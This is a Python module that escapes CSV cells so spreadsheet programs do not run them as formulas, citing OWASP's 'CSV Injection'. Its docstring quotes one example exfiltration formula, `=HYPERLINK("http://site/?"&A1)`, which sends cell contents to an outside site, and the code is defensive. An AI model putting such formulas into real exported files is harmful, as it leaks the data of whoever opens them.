"""Cells of CSV files which spreadsheet programs do not take for formulas.

A note like `=HYPERLINK("http://site/?"&A1)` would run in the program of the person who opens the
file. An apostrophe before it makes it a text. It is removed when the file is read back.

A program may split the file in another way than it was written: at semicolons, where the comma is
the decimal sign, at tabs, or at line breaks. So a formula behind one of these gets an apostrophe,
too. Programs skip blanks, quotes, byte order marks and letters without a width before a formula.

Source: OWASP, "CSV Injection".
"""

from __future__ import annotations

import re
from typing import TypeVar

SIGNS = "=+\\-@\uff1d\uff0b\uff0d\uff20"
"""First characters of formulas; the last four are the wide forms of the first four."""
SKIPPED = "\x00-\x20\x7f-\xa0'\"\u200b-\u200f\u2060\ufeff"
"""The characters that may stand before a formula. A quote ends the quotes of a file that is split
elsewhere."""
PLACE = r"(?:^|(?<=[;\t\n])|(?<=\r)(?!\n))"
FORMULA = re.compile(rf"{PLACE}(?=[{SKIPPED}]*[{SIGNS}])|^(?='*[\t\r\n])")
"""Pattern of the places before a formula."""
ESCAPED = re.compile(rf"{PLACE}'(?=[{SKIPPED}]*[{SIGNS}])|^'(?='*[\t\r\n])")
APOSTROPHE = "'"

CellT = TypeVar("CellT")


def to_cell(value: CellT) -> CellT | str:
    """Return a value for a CSV file; numbers and harmless texts stay."""
    return FORMULA.sub(APOSTROPHE, value) if isinstance(value, str) else value


def from_cell(text: str) -> str:
    """Return the text from which `to_cell` made a cell."""
    return ESCAPED.sub("", text)
